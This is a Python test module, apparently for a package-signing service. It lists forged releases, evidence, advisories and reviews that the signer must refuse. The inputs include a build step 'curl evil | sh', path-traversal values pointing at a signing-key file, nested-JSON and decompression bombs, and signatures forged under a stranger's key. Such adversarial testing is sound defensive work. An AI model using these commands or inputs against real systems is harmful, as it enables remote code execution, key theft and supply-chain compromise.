"""What can be said to the signer that it must not do: a table for each of its messages.

What is asked for is composed as control composes it, with all evidence that there is, but for the one lie.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

from zstandard import ZstdCompressor

from farm.compat.openvex import read_openvex
from farm.compat.reviews import Review
from farm.fileset import File, Manifest
from farm.names import Digest, canonical_json
from farm.package import Descriptor, PackageFacts
from farm.plan import BlobRef, TestOrder
from farm.recipe import Limits, Test
from farm.trust.advice import Word
from farm.trust.advisory_index import AdvisoryIndex, ListedAdvisory, document_of
from farm.trust.approval import approval_statement
from farm.trust.curator_order import Act
from farm.trust.dsse import sign_statement
from farm.trust.release_evidence import LARGEST_EVIDENCE, SignedTest
from farm.trust.release_index import Release
from farm.trust.repository import Repository
from farm.trust.review_list import ReviewList
from tests.attack.farm import key_of
from tests.attack.liar import DISTRIBUTION, MALLORY
from tests.attack.scenario import HARMFUL, HARMLESS, advised, recipe_with_test
from tests.attack.workings import stranger_of
from tests.compat.osv_documents import openvex, osv
from tests.control.owned_farm import ALICE, signed
from tests.control.small_farm import archive_of

if TYPE_CHECKING:
    from collections.abc import Callable

    import httpx

    from tests.attack.liar import Liar

BUILDER, AGAIN, TESTER = key_of("builder"), key_of("again"), key_of("tester")
_MISSING = Digest.of(b"nobody has this")
NESTED = b"[" * 100_000 + b"]" * 100_000


@dataclass(frozen=True)
class Message:
    """What is sent; `harmless` ones may be answered with yes."""

    what: str
    send: Callable[[Liar], httpx.Response]
    harmless: bool = False


def _put(channel: str, name: str, of: str = "1.0", what: str = "", **lies: object) -> Message:
    """A release with a package in it, of a version, or with a lie about it."""
    told = what or f"{name} {of} on {channel}"
    return Message(told, lambda liar: liar.ask(liar.compose(channel, liar.entry(name, of, **lies))))


def _release(what: str, **lies: object) -> Message:
    """The next, honest release with a lie at its head."""
    return Message(what, lambda liar: liar.ask(liar.compose("edge", liar.entry("next"), **lies)))


def _bytes(what: str, content: Callable[[Liar], bytes]) -> Message:
    return Message(what, lambda liar: liar.ask(content(liar)))


def _newest(liar: Liar, channel: str = "edge") -> Release:
    release = liar.farm.release(channel)
    assert release is not None
    return release


def _older(liar: Liar, channel: str, number: int) -> Release:
    release = _newest(liar, channel)
    while release.number > number:
        assert release.previous is not None
        release = Release.from_json(liar.farm.blobs.read(release.previous))
    return release


def _set_of(liar: Liar, channel: str, other: Release) -> httpx.Response:
    """Ask for the very set of another release, without any order."""
    release = _newest(liar, channel)
    asked = replace(
        release,
        number=release.number + 1,
        previous=release.digest,
        index=other.index,
        packages=other.packages,
        released_at=datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
    )
    return liar.ask(asked)


HEADS = (
    _bytes("no JSON", lambda _: b"rubbish"),
    _bytes("nested JSON", lambda _: NESTED),
    _bytes("too much", lambda _: b" " * (5 << 20)),
    _bytes("another form of the same", lambda liar: json.dumps(json.loads(_newest(liar).to_json()), indent=1).encode()),
    _bytes("a list", lambda _: b"[]"),
    _bytes("another format", lambda liar: _newest(liar).to_json().replace(b'"format":', b'"format":9')),
    _bytes("one number twice", lambda liar: _newest(liar).to_json().replace(b'{"channel"', b'{"number":1,"channel"')),
    _release("another distribution", distribution="evil.example.org"),
    _release("a channel that there is not", channel="nightly"),
    _release("the role of advisories", channel="advisories"),
    _release("a channel with a path in its name", channel="../edge"),
    _release("a number left out", number=9),
    _release("the number of the newest", number=2),
    _release("a negative number", number=-1),
    _bytes(
        "an endless number", lambda liar: _newest(liar).to_json().replace(b'"number":2', b'"number":2' + b"0" * 5000)
    ),
    _release("no predecessor", previous=None),
    _release("another predecessor", previous=_MISSING),
    _release("a time to come", released_at="2999-01-01T00:00:00Z"),
    _release("a time before the newest", released_at="2020-01-01T00:00:00Z"),
    _release("no time", released_at="soon"),
    _release("more packages than there are", packages=99),
    _release("no index", index=BlobRef(_MISSING, 10)),
    _release("an index of another size", index=BlobRef(_MISSING, 10**9)),
    Message(
        "an index that is none", lambda liar: liar.ask(liar.compose("edge", liar.entry("next"), index=liar.keep(b"[]")))
    ),
    Message(
        "an index that is nested",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next"), index=liar.keep(NESTED))),
    ),
    Message(
        "a package of a stranger's distribution",
        lambda liar: liar.ask(liar.compose("edge", imports=(stranger_of(liar),))),
    ),
    Message("the newest once more", lambda liar: liar.ask(_newest(liar)), harmless=True),
    Message("the first once more", lambda liar: liar.ask(_older(liar, "edge", 1))),
    Message("a release of another channel", lambda liar: liar.ask(replace(_newest(liar, "twice"), channel="edge"))),
    Message("the set of before, without an order", lambda liar: _set_of(liar, "edge", _older(liar, "edge", 1))),
    Message("the set of another channel", lambda liar: _set_of(liar, "stable", _newest(liar, "edge"))),
    Message("the set of the frozen channel", lambda liar: _set_of(liar, "edge", _newest(liar, "still"))),
)
"""What a release says of itself."""


def _built(what: str, key: object, **lies: object) -> Message:
    return Message(what, lambda liar: liar.ask(liar.compose("edge", liar.built("next", key, **lies))))  # type: ignore[arg-type]


def _malicious(liar: Liar) -> httpx.Response:
    honest = liar.plan("next")
    evil = replace(honest, steps=(*honest.steps, replace(honest.steps[-1], script="curl evil | sh")))
    return liar.ask(liar.compose("edge", liar.built("next", BUILDER, plan=evil, text=evil.digest)))


def _other_content(liar: Liar, channel: str, name: str, version: str) -> httpx.Response:
    return liar.ask(liar.compose(channel, liar.built(name, BUILDER, version=version)))


def _other_archive(liar: Liar, content: bytes) -> httpx.Response:
    return liar.ask(liar.compose("edge", liar.entry("next", archive=liar.keep(content))))


def _archive_with(liar: Liar, file: File, content: bytes) -> bytes:
    manifest = Manifest.of([file])
    return ZstdCompressor().compress(archive_of(manifest, "next", "1.0", {file.path: content}))


def _setuid(liar: Liar) -> httpx.Response:
    """A program that everybody runs as root, of which its recipe says nothing: honestly signed by a builder."""
    plan = liar.plan("next")
    entry = liar.built("next", BUILDER, plan=plan, text="suid")
    return liar.ask(liar.compose("edge", replace(entry, archive=liar.keep(b"\x28\xb5\x2f\xfd"))))


def _tests(liar: Liar, **said: object) -> httpx.Response:
    """Ask for the package whose test fails, with a result that was signed for it."""
    test = liar.tested("broken", "2.0", **said)  # type: ignore[arg-type]
    return liar.ask(liar.compose("edge", liar.entry("broken", "2.0")), liar.evidence(tests=(*liar.tests(), test)))


def _replayed(liar: Liar) -> httpx.Response:
    """Ask for it with the results of the version before, for its own order."""
    (order,) = {
        each.order for each in liar.tests() if _subject(liar, each) == liar.package("broken", "2.0").digest
    } or {_MISSING}
    results = tuple(digest for each in liar.tests() for digest in each.results)
    evidence = liar.evidence(tests=(SignedTest(order, results),))
    return liar.ask(liar.compose("edge", liar.entry("broken", "2.0")), evidence)


def _subject(liar: Liar, test: SignedTest) -> Digest:
    return TestOrder.from_dict(json.loads(liar.farm.blobs.read(test.order))).subject


def _tested_by(liar: Liar, recipe: dict[str, bytes]) -> httpx.Response:
    return liar.ask(liar.compose("edge", liar.entry("broken", "2.0", tests=liar.recipe(recipe))))


def _signed_by_mallory(liar: Liar) -> httpx.Response:
    """A stranger's package, honestly built, with a submission in an owner's name."""
    recipe = recipe_with_test("stranger")
    digest = liar.recipe(recipe)
    envelope = liar.keep(signed("alice", recipe, key=MALLORY)).digest
    entry = liar.built("next", BUILDER)
    evidence = liar.evidence()
    evidence = replace(evidence, submissions=(*evidence.submissions, envelope))
    return liar.ask(liar.compose("edge", replace(entry, recipe=digest)), evidence)


def _lost(liar: Liar, channel: str, name: str) -> httpx.Response:
    return liar.ask(liar.compose(channel, remove=[name]))


SETS = (
    _put("edge", "viral"),
    _put("edge", "hungry"),
    _put("edge", "clash"),
    _put("edge", "needy", needs=(), what="needy on edge, which says that it needs nothing"),
    _put("edge", "needy"),
    _put("edge", "needy", needs=("lib",), what="needy on edge, which says that it needs something else"),
    _put("edge", "broken", "2.0"),
    _put("edge", "kept", "2.0"),
    _put("edge", "tool", "1.0"),
    _put("stable", "lone"),
    _put("stable", "next", what="next on stable, which edge has not released"),
    _put("stable", "viral"),
    _put("stable", "vuln"),
    _put("stable", "reported"),
    _put("slow", "lib"),
    _put("still", "tool", "2.0"),
    _put("twice", "lone"),
    _put("twice", "broken", "2.0"),
    Message(
        "two packages of whom one may not",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next"), liar.entry("viral"))),
    ),
    Message("without what another needs", lambda liar: _lost(liar, "edge", "lib")),
    Message("without what edge still has", lambda liar: _lost(liar, "twice", "vuln")),
    Message(
        "a package under another's name", lambda liar: liar.ask(liar.compose("edge", liar.entry("viral", name="next")))
    ),
    _put("edge", "tool", "2.0", version="3.0", what="a version that its descriptor does not have"),
    _put("edge", "tool", "2.0", revision=9, what="a revision that its descriptor does not have"),
    _put("edge", "next", summary="Safe to run as root", what="a summary that is not its recipe's"),
    _put("edge", "lib", summary="Safe to run as root", what="another summary of what is released"),
    Message(
        "a bill of materials that is another's",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", sbom=liar.entry("lib").sbom))),
    ),
    Message(
        "a bill of materials that is none",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", sbom=liar.keep(b"{}")))),
    ),
    _put("edge", "next", sbom=None, what="without a bill of materials"),
    _put("edge", "app", needs=(), what="what needs another says that it does not"),
    Message(
        "another's archive",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", archive=liar.entry("lib").archive))),
    ),
    Message(
        "another's manifest",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", manifest=liar.entry("lib").manifest))),
    ),
    Message(
        "another's descriptor",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", descriptor=liar.entry("viral").descriptor))),
    ),
    Message(
        "another's provenance",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", provenance=liar.entry("lib").provenance))),
    ),
    Message(
        "other facts",
        lambda liar: liar.ask(
            liar.compose("edge", liar.entry("next", facts=liar.keep(PackageFacts(headers=("include/x.h",)).to_json())))
        ),
    ),
    Message(
        "an archive of other content",
        lambda liar: _other_archive(liar, _archive_with(liar, File("share/next/x", 4, Digest.of(b"evil")), b"evil")),
    ),
    Message("an archive that is none", lambda liar: _other_archive(liar, b"rubbish")),
    Message(
        "an archive that unpacks to a lot",
        lambda liar: _other_archive(liar, ZstdCompressor().compress(bytes(256 << 20))),
    ),
    Message(
        "an archive that breaks off", lambda liar: _other_archive(liar, liar.read(liar.entry("next").archive)[:-20])
    ),
    Message("an archive of which nothing is said", _setuid),
    Message(
        "another recipe",
        lambda liar: liar.ask(
            liar.compose("edge", liar.entry("next", recipe=liar.recipe(recipe_with_test("next", more="# harmless\n"))))
        ),
    ),
    Message(
        "a recipe that nobody has", lambda liar: liar.ask(liar.compose("edge", liar.entry("next", recipe=_MISSING)))
    ),
    _built("a package that a stranger has built", MALLORY),
    _built("a package that a tester has built", TESTER),
    _built("a link that no plan asks for", BUILDER, links=(("usr/bin/ls", "share/next/x"),)),
    _built("a replacement that no plan asks for", BUILDER, replaces=("lib",)),
    _built("a licence that no plan has", BUILDER, licence="0BSD"),
    Message("a malicious plan under an honest recipe", _malicious),
    Message("other files under what was published", lambda liar: _other_content(liar, "edge", "tool", "2.0")),
    Message(
        "other files under what another channel has published",
        lambda liar: _other_content(liar, "twice", "tool", "2.0"),
    ),
    Message("a stranger's recipe in an owner's name", _signed_by_mallory),
    Message("a passed test that a stranger has signed", lambda liar: _tests(liar, key=MALLORY, passed=True)),
    Message("a passed test that a builder has signed", lambda liar: _tests(liar, key=BUILDER, passed=True)),
    Message("a failed test that its tester has signed", _tests),
    Message("a passed test of another package", lambda liar: _tests(liar, passed=True, subject=_MISSING)),
    Message("a passed test among other packages", lambda liar: _tests(liar, passed=True, closure=())),
    Message(
        "a passed test of another command",
        lambda liar: _tests(liar, test=Test("works", command=("/usr/bin/true",)), passed=True),
    ),
    Message("a passed test within other limits", lambda liar: _tests(liar, limits=Limits(minutes=99), passed=True)),
    Message("results of another order", _replayed),
    Message("the tests of an older recipe", lambda liar: _tested_by(liar, recipe_with_test("broken"))),
    Message(
        "the tests of a recipe that nobody has signed", lambda liar: _tested_by(liar, recipe_with_test("broken", "2.0"))
    ),
    Message("a rebuild by the same builder", lambda liar: _rebuilt(liar, liar.entry("lone").provenance)),
    Message("a rebuild by a stranger", lambda liar: _rebuilt(liar, liar.vouch("lone", MALLORY))),
    Message("a rebuild that came to something else", lambda liar: _rebuilt(liar, liar.built("lone", AGAIN).provenance)),
)
"""Which packages a release holds, and what it says of them."""


def _rebuilt(liar: Liar, provenance: BlobRef) -> httpx.Response:
    return liar.ask(liar.compose("twice", liar.entry("lone", rebuilds=(provenance,))))


def _with(what: str, evidence: Callable[[Liar], object]) -> Message:
    """Ask for what may be released with all evidence, with other."""
    return Message(what, lambda liar: liar.ask(liar.compose("edge", liar.entry("next")), evidence(liar)))  # type: ignore[arg-type]


def _approved(what: str, name: str, key: object, **said: object) -> Message:
    def send(liar: Liar) -> httpx.Response:
        descriptor = Descriptor.from_json(liar.read(liar.entry(name).descriptor))
        statement = approval_statement(descriptor, **({"channel": "stable", "curator": "alice"} | said))  # type: ignore[arg-type]
        kept = liar.keep(sign_statement(statement, key)).digest  # type: ignore[arg-type]
        return liar.ask(liar.compose("stable", liar.entry("lone")), liar.evidence(approvals=(kept,)))

    return Message(what, send)


def _large(liar: Liar) -> Digest:
    """A blob of more bytes than may be read, which takes no room."""
    path = liar.path_of(_MISSING)
    path.parent.mkdir(exist_ok=True)
    with path.open("wb") as file:
        os.truncate(file.fileno(), LARGEST_EVIDENCE + 1)
    return _MISSING


EVIDENCE = (
    _with("no evidence", lambda liar: liar.evidence(dependencies=(), submissions=(), approvals=(), tests=())),
    _with("evidence that is no digest", lambda _: "x"),
    _with("evidence with a path for a digest", lambda _: "sha256:../../../keys/online/edge"),
    _with("evidence that is not there", lambda _: str(_MISSING)),
    _with("evidence that is no JSON", lambda _: b"rubbish"),
    _with("evidence that is nested", lambda _: NESTED),
    _with("evidence that breaks off", lambda liar: liar.evidence().to_json()[:-100]),
    _with("evidence that is something else", lambda liar: liar.read(liar.entry("lib").descriptor)),
    _with("evidence of another format", lambda liar: liar.evidence().to_json().replace(b'"format":1', b'"format":2')),
    Message(
        "evidence that is too large",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("broken", "2.0")), str(_large(liar))),
    ),
    _with("no submissions", lambda liar: liar.evidence(submissions=())),
    _with(
        "submissions that are none",
        lambda liar: liar.evidence(submissions=(liar.keep(b"rubbish").digest, liar.keep(NESTED).digest, _MISSING)),
    ),
    _with("no tests", lambda liar: liar.evidence(tests=())),
    _with(
        "tests that are none",
        lambda liar: liar.evidence(tests=(SignedTest(liar.keep(NESTED).digest, (liar.keep(NESTED).digest,)),)),
    ),
    _with("tests whose order is not there", lambda liar: liar.evidence(tests=(SignedTest(_MISSING, (_MISSING,)),))),
    _approved("an approval by a stranger in a curator's name", "lone", MALLORY),
    _approved("an approval by a stranger", "lone", MALLORY, curator="mallory"),
    _approved("an approval for another channel", "lone", ALICE, channel="edge"),
    _approved("an approval of another package", "lib", ALICE),
    _approved("an approval of its removal", "lone", ALICE, removed=True),
    _approved("an approval in another curator's name", "lone", ALICE, curator="bob"),
)
"""What is brought with a release to show that it may be signed."""


def _listed(
    liar: Liar, content: bytes, number: str = "EXAMPLE-2026-1", packages: tuple[str, ...] = ("vuln",)
) -> ListedAdvisory:
    return ListedAdvisory(number, liar.keep(content), packages)


def _document(liar: Liar, name: str) -> bytes:
    repository = Repository(liar.farm.public)
    targets = repository.delegated(repository.head(), "advisories").targets
    return repository.read_target(targets[f"advisories/{name}"])


def _advise(liar: Liar, *listed: ListedAdvisory, **lies: object) -> httpx.Response:
    """Ask for these advisories beside what is stated already, but for the lie."""
    index = AdvisoryIndex.from_json(_document(liar, "osv.json"))
    return liar.post("/advisories", replace(index, advisories=listed, **lies).to_json())  # type: ignore[arg-type]


def _state(liar: Liar, *documents: bytes, statements: BlobRef | None = None) -> httpx.Response:
    """Ask for statements beside the advisory that there is."""
    if documents:
        found = [each for document in documents for each in read_openvex(document, DISTRIBUTION)]
        statements = liar.keep(document_of(found, DISTRIBUTION))
    index = AdvisoryIndex.from_json(_document(liar, "osv.json"))
    return liar.post("/advisories", replace(index, statements=statements).to_json())


def _withdrawn_by(liar: Liar, *words: Word, **said: Any) -> httpx.Response:
    """Ask for a withdrawal after the signer was brought an order, whatever it has said to that."""
    liar.post("/orders", advised(*words, **said))
    return _advise(liar, _listed(liar, _WITHDRAWN))


_LATER = "2024-11-21T10:00:00Z"
_WITHDRAWN = osv(package="vuln", fixed="", modified=_LATER, withdrawn=_LATER)
_ITS_WITHDRAWAL = Word("EXAMPLE-2026-1", Digest.of(_WITHDRAWN))
_LONG_AGO = datetime(2024, 11, 20, tzinfo=UTC)
_OF_LIB = openvex(product=f"{DISTRIBUTION}/lib")
ADVISORIES = (
    Message("no JSON", lambda liar: liar.post("/advisories", b"rubbish")),
    Message("nested JSON", lambda liar: liar.post("/advisories", NESTED)),
    Message("a list without what is published", _advise),
    Message(
        "an older advisory",
        lambda liar: _advise(liar, _listed(liar, osv(package="vuln", fixed="", modified="2020-01-01T00:00:00Z"))),
    ),
    Message(
        "an advisory that is withdrawn",
        lambda liar: _advise(liar, _listed(liar, _WITHDRAWN)),
    ),
    Message(
        "a withdrawal, by an order for another document",
        lambda liar: _withdrawn_by(liar, Word("EXAMPLE-2026-1", Digest.of(b"another"))),
    ),
    Message("a withdrawal, by a stranger's order", lambda liar: _withdrawn_by(liar, _ITS_WITHDRAWAL, key=MALLORY)),
    Message(
        "a withdrawal, by an order of another act",
        lambda liar: _withdrawn_by(liar, _ITS_WITHDRAWAL, act=Act.RETRY, channel="edge"),
    ),
    Message(
        "a withdrawal, by an order for another distribution",
        lambda liar: _withdrawn_by(liar, _ITS_WITHDRAWAL, distribution="evil.example.org"),
    ),
    Message(
        "a withdrawal, by an order that is over",
        lambda liar: _withdrawn_by(liar, _ITS_WITHDRAWAL, at=_LONG_AGO, expires=_LONG_AGO + timedelta(days=1)),
    ),
    Message(
        "an advisory that speaks of another package",
        lambda liar: _advise(liar, _listed(liar, osv(package="viral", fixed="", modified=_LATER), packages=("viral",))),
    ),
    Message(
        "an advisory that is listed for another package",
        lambda liar: _advise(liar, _listed(liar, osv(package="vuln", fixed="", modified=_LATER), packages=("lib",))),
    ),
    Message(
        "an advisory under another's name",
        lambda liar: _advise(liar, _listed(liar, osv(package="vuln", fixed=""), "EXAMPLE-1")),
    ),
    Message("an advisory that is none", lambda liar: _advise(liar, _listed(liar, b"{}"))),
    Message("an advisory that is nested", lambda liar: _advise(liar, _listed(liar, NESTED))),
    Message(
        "an advisory that is not there",
        lambda liar: _advise(liar, ListedAdvisory("EXAMPLE-2026-1", BlobRef(_MISSING, 9), ("vuln",))),
    ),
    Message("advisories of another distribution", lambda liar: _advise(liar, distribution="evil.example.org")),
    Message("a statement that nobody has made", lambda liar: _state(liar, HARMFUL, _OF_LIB)),
    Message("a statement that was signed, and is older than the published one", lambda liar: _state(liar, HARMLESS)),
    Message("the older statement beside the newer", lambda liar: _state(liar, HARMLESS, HARMFUL)),
    Message("no statements any more", _state),
    Message(
        "statements that say more than was signed",
        lambda liar: _state(
            liar,
            statements=liar.keep(
                document_of(read_openvex(HARMFUL, DISTRIBUTION), DISTRIBUTION).replace(
                    b'"status":', b'"status_notes":"harmless","status":'
                )
            ),
        ),
    ),
    Message(
        "statements that are none",
        lambda liar: _advise(liar, _listed(liar, osv(package="vuln", fixed="")), statements=liar.keep(b"{}")),
    ),
)
"""What is known about vulnerabilities."""


def _review(liar: Liar, *reviews: Review, distribution: str = DISTRIBUTION) -> httpx.Response:
    return liar.post("/reviews", ReviewList(distribution, reviews).to_json())


def _looked_at(liar: Liar) -> tuple[Review, ...]:
    return ReviewList.from_json(_document(liar, "reviews.json")).reviews


def _looked(name: str, **ago: float) -> Review:
    return Review(name, "https://cve.example.org/", (datetime.now(UTC) - timedelta(**ago)).replace(microsecond=0))


def _earlier(review: Review) -> Review:
    return replace(review, at=review.at - timedelta(days=1))


def _newer(review: Review) -> Review:
    return replace(review, at=review.at + timedelta(seconds=1))


REVIEWS = (
    Message("no JSON", lambda liar: liar.post("/reviews", b"rubbish")),
    Message("nested JSON", lambda liar: liar.post("/reviews", NESTED)),
    Message("a review that is to come", lambda liar: _review(liar, _looked("vuln", days=-2))),
    Message("reviews out of order", lambda liar: _review(liar, _looked("vuln", days=1), _looked("lib", days=1))),
    Message("one review twice", lambda liar: _review(liar, _looked("lib", days=1), _looked("lib", days=2))),
    Message(
        "reviews of another distribution",
        lambda liar: _review(liar, _looked("lib", days=1), distribution="evil.example.org"),
    ),
    Message("a review that nobody has made", lambda liar: _review(liar, *_looked_at(liar), _looked("vuln", days=1))),
    Message("a review left out", _review),
    Message(
        "a review that is older than the published one", lambda liar: _review(liar, *map(_earlier, _looked_at(liar)))
    ),
    Message(
        "a review that is newer than any that was signed", lambda liar: _review(liar, *map(_newer, _looked_at(liar)))
    ),
)
"""What was looked at for vulnerabilities."""


def _image(what: str, **asked: object) -> Message:
    question = {"channel": "edge", "number": 2, "packages": ["lib"], "plain": False} | asked
    return Message(what, lambda liar: liar.post("/images", canonical_json(question)))


IMAGES = (
    Message("no JSON", lambda liar: liar.post("/images", b"rubbish")),
    Message("nested JSON", lambda liar: liar.post("/images", NESTED[: 16 << 10])),
    Message("too much", lambda liar: liar.post("/images", b" " * (17 << 10))),
    _image("a release that is to come", number=99),
    _image("no release", number=0),
    _image("a channel that there is not", channel="nightly"),
    _image("a channel that has released nothing", channel="slow", number=1),
    _image("the role of advisories", channel="advisories"),
    _image("a package that is not there", packages=["viral"]),
    _image("a package with a path for a name", packages=["../lib"]),
    _image("no package", packages=[]),
    _image("packages out of order", packages=["tool", "lib"]),
    _image("one package twice", packages=["lib", "lib"]),
    _image("a digest of its own", digest="sha256:" + "0" * 64),
    _image("something else for plain", plain="yes"),
)
"""Which image the signer is to say of what it is made."""

OTHERS = (
    Message("a path that there is not", lambda liar: liar.post("/keys", b"")),
    Message("a message of the other socket", lambda liar: liar.post("/health", b"")),
)

MESSAGES = {
    "releases": (*HEADS, *SETS),
    "evidence": EVIDENCE,
    "advisories": ADVISORIES,
    "reviews": REVIEWS,
    "images": IMAGES,
    "others": OTHERS,
}
